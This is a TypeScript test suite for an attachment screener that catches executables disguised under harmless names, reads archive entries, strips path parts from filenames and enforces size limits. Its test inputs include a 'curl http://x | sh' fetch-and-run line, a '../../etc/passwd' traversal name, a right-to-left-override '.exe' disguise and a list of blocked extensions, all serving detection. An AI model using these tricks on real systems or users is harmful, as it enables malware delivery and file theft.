import { readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { detectExecutable, safeFilename, screenAttachments, tarEntryNames, zipEntryNames } from '../src/core/attachments/screen-attachment.ts';

// Review item 11: the pure content screen, on real bytes — the first 512 bytes of a real Windows PE
// (pip's distlib launcher), the first 64 of /bin/true, zips and a tar written by Info-ZIP and GNU tar —
// and headers built to the published layouts where no sample ships with the system (Mach-O, LNK, CAB, MSI).

const dir = path.join(path.dirname(fileURLToPath(import.meta.url)), 'fixtures', 'attachments');
const fixture = (name: string): Uint8Array => new Uint8Array(readFileSync(path.join(dir, name)));
const bytes = (...parts: (number[] | string)[]): Uint8Array =>
  new Uint8Array(parts.flatMap((p) => (typeof p === 'string' ? [...Buffer.from(p, 'latin1')] : p)));
const text = (s: string): Uint8Array => new Uint8Array(Buffer.from(s, 'utf8'));

// Mach-O 64-bit executable header (mach-o/loader.h): magic, cputype x86_64, subtype, MH_EXECUTE.
const machO = bytes([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01, 0x03, 0x00, 0x00, 0x00, 0x02, 0x00, 0x00, 0x00], new Array(16).fill(0));
// [MS-SHLLINK] 2.1: HeaderSize 0x4C, LinkCLSID 00021401-0000-0000-C000-000000000046.
const lnk = bytes([0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0x00, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46], new Array(56).fill(0));
// [MS-CAB] CFHEADER: "MSCF", reserved, cbCabinet …
const cab = bytes('MSCF', [0, 0, 0, 0, 0x2c, 0, 0, 0], new Array(28).fill(0));
/** An OLE compound file ([MS-CFB]) of 512-byte sectors whose root directory entry carries `clsid` (directory at sector 0). */
function compoundFile(clsid: number[]): Uint8Array {
  const b = new Uint8Array(1536);
  b.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], 0);
  b.set([0x3e, 0x00, 0x03, 0x00, 0xfe, 0xff, 0x09, 0x00], 0x18); // minor/major version, byte order, sector shift 9
  b.set([0, 0, 0, 0], 0x30); // first directory sector: 0 → file offset 512
  b.set(Buffer.from('Root Entry', 'utf16le'), 512);
  b.set(clsid, 512 + 0x50);
  return b;
}
const MSI_CLSID = [0x84, 0x10, 0x0c, 0x00, 0x00, 0x00, 0x00, 0x00, 0xc0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46];
// A Word 97 document's root CLSID {00020906-0000-0000-C000-000000000046}: the same container, not a program.
const WORD_CLSID = [0x06, 0x09, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xc0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46];
const png = bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d], 'IHDR');
const pdf = text('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n');

describe('detectExecutable: by content, whatever the name', () => {
  it.each([
    ['a real PE header named invoice.pdf', 'invoice.pdf', 'application/pdf', fixture('pe-header.bin'), 'windows_executable'],
    ['a real ELF header named notes.txt', 'notes.txt', 'text/plain', fixture('elf-header.bin'), 'elf_executable'],
    ['a Mach-O executable named photo.jpg', 'photo.jpg', 'image/jpeg', machO, 'mach_o_executable'],
    ['a shell script named readme.txt', 'readme.txt', 'text/plain', text('#!/bin/sh\ncurl http://x | sh\n'), 'script'],
    ['a shebang behind a UTF-8 BOM', 'run.txt', null, bytes([0xef, 0xbb, 0xbf], '#!/usr/bin/env python3\n'), 'script'],
    ['a Windows shortcut named document.pdf', 'document.pdf', 'application/pdf', lnk, 'windows_shortcut'],
    ['a cabinet named data.dat', 'data.dat', 'application/octet-stream', cab, 'cabinet'],
    ['a Windows Installer package named setup.doc', 'setup.doc', 'application/msword', compoundFile(MSI_CLSID), 'windows_installer'],
  ] as const)('%s', (_label, filename, contentType, content, kind) => {
    expect(detectExecutable({ filename, contentType, content })?.kind).toBe(kind);
  });

  it('an ordinary PNG, PDF, Word 97 document, .docx and zip of a PDF pass', () => {
    expect(detectExecutable({ filename: 'screenshot.png', contentType: 'image/png', content: png })).toBeNull();
    expect(detectExecutable({ filename: 'invoice.pdf', contentType: 'application/pdf', content: pdf })).toBeNull();
    expect(detectExecutable({ filename: 'letter.doc', contentType: 'application/msword', content: compoundFile(WORD_CLSID) })).toBeNull();
    expect(detectExecutable({ filename: 'report.docx', content: fixture('report.docx') })).toBeNull();
    expect(detectExecutable({ filename: 'report.zip', contentType: 'application/zip', content: fixture('good.zip') })).toBeNull();
  });
});

describe('detectExecutable: by name and declared type where content says nothing', () => {
  it.each(['run.bat', 'RUN.CMD', 'install.ps1', 'macro.vbs', 'payload.js', 'tool.jar', 'screen.scr', 'setup.msi', 'link.lnk', 'invoice.pdf.exe', 'trailing.exe. ', 'trailing.exe...'])('%s', (filename) => {
    expect(detectExecutable({ filename, contentType: 'text/plain', content: text('echo hello') })?.kind).toBe('blocked_extension');
  });

  it('a declared executable type is refused even with harmless bytes', () => {
    expect(detectExecutable({ filename: 'file', contentType: 'application/x-msdownload; name=file', content: text('hi') })?.kind).toBe('executable_type');
  });

  it('the right-to-left override cannot hide .exe behind .jpg', () => {
    const name = 'invoice\u202Egpj.exe';
    expect(safeFilename(name)).toBe('invoicegpj.exe');
    expect(detectExecutable({ filename: name, content: png })?.kind).toBe('blocked_extension');
  });

  it('path parts and control characters are dropped from the stored name', () => {
    expect(safeFilename('C:\\Users\\x\\..\\report\n.pdf')).toBe('report.pdf');
    expect(safeFilename('../../etc/passwd')).toBe('passwd');
    expect(safeFilename('')).toBe('attachment');
  });
});

describe('archives: entry names', () => {
  it('reads the central directory of a real zip', () => {
    expect(zipEntryNames(fixture('evil.zip'))).toEqual(['report.pdf', 'setup.exe']);
    expect(zipEntryNames(png)).toBeNull();
  });

  it('a zip holding setup.exe is refused and names the entry', () => {
    expect(detectExecutable({ filename: 'photos.zip', contentType: 'application/zip', content: fixture('evil.zip') })).toEqual({ kind: 'archive_with_executable', detail: 'setup.exe' });
  });

  it('a zip cut short (no central directory) is still read from its local headers', () => {
    const whole = fixture('evil.zip');
    const cut = whole.slice(0, 150); // both local headers, no directory
    expect(zipEntryNames(cut)).toEqual(['report.pdf', 'setup.exe']);
    expect(detectExecutable({ filename: 'cut.zip', content: cut })?.kind).toBe('archive_with_executable');
  });

  it('a jar renamed .zip (manifest + classes) is refused', () => {
    expect(detectExecutable({ filename: 'app.zip', content: fixture('app-renamed.zip') })?.kind).toBe('archive_with_executable');
  });

  it('a real ustar archive holding d/install.exe is refused', () => {
    expect(tarEntryNames(fixture('evil.tar'))).toEqual(['report.pdf', 'd/install.exe']);
    expect(detectExecutable({ filename: 'bundle.tar', content: fixture('evil.tar') })).toEqual({ kind: 'archive_with_executable', detail: 'd/install.exe' });
  });
});

describe('screenAttachments: limits per file, per message and count', () => {
  const limits = { maxFileBytes: 100, maxTotalBytes: 150, maxCount: 3 };
  const file = (name: string, size: number) => ({ filename: name, content: new Uint8Array(size).fill(0x61) });

  it('each file gets a decision, in order, naming why it was refused', () => {
    const out = screenAttachments([file('a.txt', 60), { filename: 'x.txt', content: fixture('pe-header.bin') }, file('big.txt', 101), file('b.txt', 60), file('c.txt', 60), file('d.txt', 1), file('e.txt', 0)], limits);
    expect(out.map((f) => (f.ok ? 'ok' : f.reason))).toEqual(['ok', 'executable', 'too_large', 'ok', 'total_too_large', 'ok', 'empty']);
    const refused = out[1];
    expect(refused && !refused.ok && refused.message).toBe('executable files are not accepted');
  });

  it('the count limit refuses the files after the last one allowed', () => {
    const out = screenAttachments([file('1', 1), file('2', 1), file('3', 1), file('4', 1)], limits);
    expect(out.map((f) => (f.ok ? 'ok' : f.reason))).toEqual(['ok', 'ok', 'ok', 'too_many']);
  });

  it('defaults: 10 MiB a file, 25 MiB a message, 10 files', () => {
    const ten = screenAttachments([file('a', 10 * 1024 * 1024), file('b', 10 * 1024 * 1024 + 1)]);
    expect(ten.map((f) => f.ok)).toEqual([true, false]);
    const many = screenAttachments(Array.from({ length: 11 }, (_, i) => file(`f${i}`, 1)));
    expect(many.filter((f) => f.ok)).toHaveLength(10);
  });
});
